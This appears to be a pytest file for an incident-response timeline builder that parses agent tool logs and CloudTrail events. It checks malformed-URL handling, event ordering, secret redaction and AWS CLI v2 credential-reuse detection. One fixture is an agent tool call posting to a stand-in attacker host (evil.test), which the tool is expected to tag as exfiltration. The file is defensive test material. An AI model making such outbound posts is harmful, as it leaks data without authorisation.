"""What a second read of the timeline found: a bracketed URL crashed the run, `--untimed-at` before
the timed events put them out of order, CloudTrail request parameters carried secrets out, and AWS
CLI v2 (whose user agent names each command) made every call look like a new place for a key."""

from __future__ import annotations

import json
from pathlib import Path

from ir.core.inventory import Agent
from ir.timeline.pipeline import build
from ir.timeline.untimed import anchor_time


def _log(path: Path, records: list[dict[str, object]]) -> None:
    path.write_text("".join(json.dumps(r) + "\n" for r in records))


def test_a_url_that_is_not_one_does_not_stop_the_run(tmp_path: Path) -> None:
    _log(
        tmp_path / "tools.jsonl",
        [
            {"ts": "2026-11-20T03:00:00Z", "tool": "fs.read", "arguments": {"path": "/data/a"}},
            {"ts": "2026-11-20T03:00:05Z", "tool": "http.post", "arguments": {"url": "http://[evil.test/x"}},
        ],
    )
    events = list(build([tmp_path]).events())
    post = next(e for e in events if e["action"] == "http.post")
    assert any(t["tag"] == "exfiltration_candidate" for t in post["tags"]), post["tags"]


def test_untimed_events_anchored_before_the_timed_ones_come_first(tmp_path: Path) -> None:
    _log(tmp_path / "tools.jsonl", [{"ts": f"2026-11-20T03:0{m}:00Z", "tool": "fs.read"} for m in range(3)])
    chat = {
        "messages": [
            {"role": "assistant", "tool_calls": [{"id": "c1", "function": {"name": "read_file", "arguments": "{}"}}]}
        ]
    }
    (tmp_path / "chat.json").write_text(json.dumps(chat))
    events = list(build([tmp_path], untimed_at=anchor_time("2026-11-20T02:00:00Z")).events())
    times = [e["ts"] for e in events]
    assert times == sorted(times)
    assert events[0].get("untimed") is True
    later = list(build([tmp_path], untimed_at=anchor_time("2026-11-20T03:01:30Z")).events())
    assert [e["ts"] for e in later] == sorted(e["ts"] for e in later)
    assert [bool(e.get("untimed")) for e in later] == [False, False, True, False]


def test_secret_named_request_parameters_never_leave(tmp_path: Path) -> None:
    record = {
        "eventTime": "2026-11-20T03:00:00Z",
        "eventSource": "secretsmanager.amazonaws.com",
        "eventName": "PutSecretValue",
        "userIdentity": {"type": "IAMUser", "userName": "agent-bot", "accessKeyId": "AKIAEXAMPLE0000001"},
        "requestParameters": {"secretId": "prod/db", "secretString": "hunter2-not-redacted?", "password": "pw-123456"},
    }
    _log(tmp_path / "trail.jsonl", [record])
    timeline = build([tmp_path])
    written = json.dumps(list(timeline.events())) + json.dumps(timeline.summary())
    assert "hunter2-not-redacted?" not in written
    assert "pw-123456" not in written
    assert "prod/db" in written


def test_aws_cli_v2_commands_are_one_place_for_a_key(tmp_path: Path) -> None:
    ua = (
        "aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#5.15.0 md/arch#x86_64 lang/python#3.11.8 "
        "md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#ubuntu.22 md/prompt#off "
        "md/command#{}"
    )
    records = [
        {
            "eventTime": f"2026-11-20T03:00:0{i}Z",
            "eventSource": "s3.amazonaws.com",
            "eventName": name,
            "sourceIPAddress": "203.0.113.7",
            "userAgent": ua.format(command),
            "userIdentity": {"type": "IAMUser", "userName": "agent-bot", "accessKeyId": "AKIAEXAMPLE0000001"},
        }
        for i, (name, command) in enumerate(
            [("ListBuckets", "s3.ls"), ("GetObject", "s3.cp"), ("ListObjects", "s3.ls")]
        )
    ]
    _log(tmp_path / "trail.jsonl", records)
    agent = Agent.model_validate(
        {"id": "bot", "owner": "o", "purpose": "p", "credentials": [{"type": "aws.iam_user", "user_name": "agent-bot"}]}
    )
    events = list(build([tmp_path], agent=agent).events())
    assert not [e for e in events if any(t["tag"] == "credential_use_elsewhere" for t in e["tags"])]
    records[2]["sourceIPAddress"] = "198.51.100.9"  # the same command from another address still counts
    _log(tmp_path / "trail.jsonl", records)
    events = list(build([tmp_path], agent=agent).events())
    assert [e["action"] for e in events if any(t["tag"] == "credential_use_elsewhere" for t in e["tags"])] == [
        "s3:ListObjects"
    ]
